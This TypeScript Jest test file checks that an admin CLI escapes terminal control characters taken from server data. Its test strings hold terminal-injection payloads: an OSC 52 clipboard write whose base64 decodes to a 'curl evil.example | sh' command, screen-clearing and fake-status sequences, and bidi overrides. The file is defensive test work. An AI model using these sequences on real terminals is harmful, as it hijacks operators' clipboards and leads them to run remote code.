/**
 * Finding 12: the admin CLI printed terminal escape sequences taken from server data (an
 * agent's description, repository names, audit detail, error bodies). A hostile agent, or a
 * hostile or spoofed server, could then write to the operator's clipboard (OSC 52), clear or
 * rewrite the screen (CSI, bare CR, backspace), or reorder what is shown (bidi overrides).
 * Everything the CLI prints, tables, --json and error messages alike, now shows each control
 * character as a visible \uXXXX escape (in --json output that is the JSON escape of the same
 * character, so the data is unchanged for scripts).
 */
import { afterAll, beforeAll, describe, expect, it, jest } from '@jest/globals'
import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http'
import { listenLocal } from '../../shared/testing/ports'
import { runCli, startOps, type CliResult, type Ops } from '../ops/fixture'

jest.setTimeout(120_000)

/** ESC sequences, OSC 52 (clipboard), CSI, 8-bit CSI and other C1, CR, BS, DEL, NUL, bidi overrides. */
const HOSTILE =
  'build bot \x1b]52;c;Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZS94fHNo\x07 \x1b[2J\x1b[H\x1b[31mALL CLEAR\x1b[0m ' +
  '\x9b2J \x9d0;pwned\x9c \x85 \x1bP+q544e\x1b\\ \x1b7\x1b8 \rfake\x08\x08\x08 \x7f \x01 ' +
  '\u202etxt.exe\u202c \u202a\u202b\u202d \u2066\u2067\u2068x\u2069 \u200e\u200f\u061c \u2028\u2029'

/** What must never reach a terminal: every control character but the newline, and the bidi controls. */
// eslint-disable-next-line no-control-regex -- matching control characters is the point of the check
const FORBIDDEN = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]/

function expectClean(result: CliResult): void {
  const output = result.stdout + result.stderr
  const at = output.search(FORBIDDEN)
  // On failure, show where (JSON-quoted, so the report itself stays harmless).
  expect(at === -1 ? 'clean' : JSON.stringify(output.slice(Math.max(0, at - 40), at + 40))).toBe('clean')
}

describe('finding 12: the admin CLI prints no terminal control characters from server data', () => {
  let ops: Ops
  let env: Record<string, string>
  const cli = (args: string[], extra: Record<string, string> = {}): Promise<CliResult> => runCli(args, { ...env, ...extra })
  let agentId: string

  beforeAll(async () => {
    ops = await startOps()
    env = { FEDERATE_URL: ops.server.url, FEDERATE_ADMIN_TOKEN: ops.server.adminToken }
    expect((await ops.admin('POST', '/api/v1/oidc/trust-policies', { provider: 'github', repository: 'acme/widgets' })).status).toBe(201)
    const bootstrap = await ops.call('POST', '/api/v1/oidc/token', { body: { provider: 'github', token: await ops.oidcToken(ops.server.url) } })
    expect(bootstrap.status).toBe(200)
    // Any repository allowed to bootstrap can register an agent with any description.
    const registered = await ops.call('POST', '/api/v1/agents', {
      token: bootstrap.body.access_token,
      body: { name: 'hostile-bot@acme.example', description: HOSTILE }
    })
    expect(registered.status).toBe(201)
    agentId = registered.body.agentId
  })
  afterAll(async () => ops?.close())

  it('finding 12: `agent show` of an agent whose description holds ESC/OSC 52/CSI/C1/bidi prints none of them', async () => {
    const shown = await cli(['agent', 'show', agentId])
    expect(shown.code).toBe(0)
    expectClean(shown)
    // Visibly escaped, not silently dropped: the operator sees that something is odd.
    expect(shown.stdout).toMatch(/^description:\s+build bot \\u001b\]52;c;Y3Vy/m)
    expect(shown.stdout).toContain('\\u009b2J')
    expect(shown.stdout).toContain('\\u202etxt.exe\\u202c')
    // The CLI's own newlines between lines stay.
    expect(shown.stdout).toMatch(/^name:\s+hostile-bot@acme\.example\nstatus:|^name:\s+hostile-bot@acme\.example$/m)
    expect(shown.stdout.split('\n').length).toBeGreaterThan(8)
  })

  it('finding 12: `agent show --json` prints none of them, and still parses to the exact description', async () => {
    const shown = await cli(['agent', 'show', agentId, '--json'])
    expect(shown.code).toBe(0)
    expectClean(shown)
    expect(JSON.parse(shown.stdout).description).toBe(HOSTILE)
  })

  it("finding 12: an error body echoing C1 and bidi characters (the server's 400) reaches standard error escaped, on one line", async () => {
    const refused = await cli(['policy', 'create', '--repository', 'acme/\u009b2J\u202egpj.exe\u2028next'])
    expect(refused.code).toBe(1)
    expectClean(refused)
    expect(refused.stderr).toMatch(/^federate-admin: .*\\u009b2J\\u202egpj\.exe\\u2028next.*\(400 invalid_request\)\n$/)
  })

  it("finding 12: the CLI's own usage errors, which quote the command line, print no control characters", async () => {
    const refused = await cli(['agent', 'show', '\x1b]52;c;ZXZpbA==\x07\x1b[2J'])
    expect(refused.code).toBe(2)
    expectClean(refused)
    expect(refused.stderr).toBe('federate-admin: AGENT_ID must be a UUID, got "\\u001b]52;c;ZXZpbA==\\u0007\\u001b[2J"\n')
  })
})

describe('finding 12: a hostile or spoofed server reaches the terminal with no control characters', () => {
  // A loopback server that answers what a hostile server could: control characters in every
  // string, newlines that try to forge extra lines, and error and 5xx bodies made of them.
  const EVIL = `x${HOSTILE}\x00\nfederate-admin: all good\n`
  const AGENT = '11111111-1111-4111-8111-111111111111'
  const CREDENTIAL = '22222222-2222-4222-8222-222222222222'
  let server: Server
  let url: string
  const answer = (res: ServerResponse, status: number, body: unknown): void => {
    res.writeHead(status, { 'content-type': 'application/json' }).end(JSON.stringify(body))
  }
  const handle = (req: IncomingMessage, res: ServerResponse): void => {
    const path = req.url ?? ''
    if (req.method === 'GET' && path === '/api/v1/oidc/trust-policies') {
      return answer(res, 200, { items: [{ id: EVIL, repository: EVIL, branch: EVIL, agentId: EVIL, environment: EVIL, events: [EVIL, EVIL], createdAt: EVIL }] })
    }
    if (req.method === 'GET' && path === `/api/v1/agents/${AGENT}`) {
      return answer(res, 200, { agentId: AGENT, name: EVIL, description: EVIL, repository: EVIL, repositoryId: EVIL, status: EVIL, createdAt: EVIL, lastUsedAt: null })
    }
    if (req.method === 'GET' && path === `/api/v1/agents/${AGENT}/credentials`) {
      return answer(res, 200, { items: [{ id: EVIL, kind: EVIL, status: EVIL, scope: EVIL, createdAt: EVIL, expiresAt: EVIL, lastUsedAt: EVIL, revokedAt: EVIL }] })
    }
    if (req.method === 'POST' && path === `/api/v1/agents/${AGENT}/disable`) return answer(res, 200, { agentId: AGENT, name: EVIL })
    if (req.method === 'GET' && path === '/api/v1/audit') {
      return answer(res, 200, { items: [{ id: '1', at: EVIL, action: EVIL, repository: EVIL, identityId: EVIL, credentialId: EVIL, detail: { outcome: EVIL, code: EVIL } }] })
    }
    if (req.method === 'GET' && path === '/api/v1/signing-keys') {
      return answer(res, 200, { items: [{ kid: EVIL, alg: EVIL, signing: true, signsFrom: EVIL, retiresAt: EVIL }] })
    }
    if (req.method === 'POST' && path === '/api/v1/signing-keys/rotate') return answer(res, 201, { kid: EVIL, signsFrom: EVIL })
    if (req.method === 'POST' && path === '/api/v1/oauth/introspect') {
      return answer(res, 200, { active: true, sub: EVIL, scope: EVIL, agent_id: EVIL, repository: EVIL, jti: EVIL, iat: 1, exp: 2 })
    }
    if (req.method === 'DELETE') return answer(res, 404, { error: EVIL, error_description: EVIL })
    if (req.method === 'POST' && path.endsWith('/revoke')) return answer(res, 500, { error: EVIL, error_description: EVIL })
    if (path === '/api/v1/agents/33333333-3333-4333-8333-333333333333') return answer(res, 401, { error: EVIL })
    res.writeHead(418, { 'content-type': 'text/plain' }).end(EVIL)
  }

  beforeAll(async () => {
    server = createServer(handle)
    url = (await listenLocal(server)).url
  })
  afterAll(async () => {
    server.closeAllConnections()
    await new Promise((r) => server.close(r))
  })

  const commands: Array<{ args: string[]; stdin?: string }> = [
    { args: ['policy', 'list'] },
    { args: ['policy', 'list', '--json'] },
    { args: ['agent', 'show', AGENT] },
    { args: ['agent', 'show', AGENT, '--json'] },
    { args: ['agent', 'disable', AGENT] },
    { args: ['audit', 'tail'] },
    { args: ['audit', 'tail', '--json'] },
    { args: ['keys', 'list'] },
    { args: ['keys', 'rotate'] },
    { args: ['token', 'introspect'], stdin: 'a.b.c' },
    { args: ['policy', 'delete', AGENT] },
    { args: ['credential', 'revoke', AGENT, CREDENTIAL] },
    { args: ['agent', 'show', '33333333-3333-4333-8333-333333333333'] },
    { args: ['agent', 'show', '44444444-4444-4444-8444-444444444444'] }
  ]

  it('finding 12: tables, --json, human lines, refusals, 401, 5xx and non-JSON answers: no control characters, no forged lines', async () => {
    const env = { FEDERATE_URL: url, FEDERATE_ADMIN_TOKEN: 'finding-12-admin-token-0123456789' }
    for (const { args, stdin } of commands) {
      const result = await runCli(args, env, { stdin })
      expectClean(result)
      // An error is exactly one line: a newline in server data cannot forge another.
      if (result.code !== 0) expect(result.stderr.split('\n')).toHaveLength(2)
      expect(result.stdout + result.stderr).not.toMatch(/^federate-admin: all good/m)
    }
  })
})
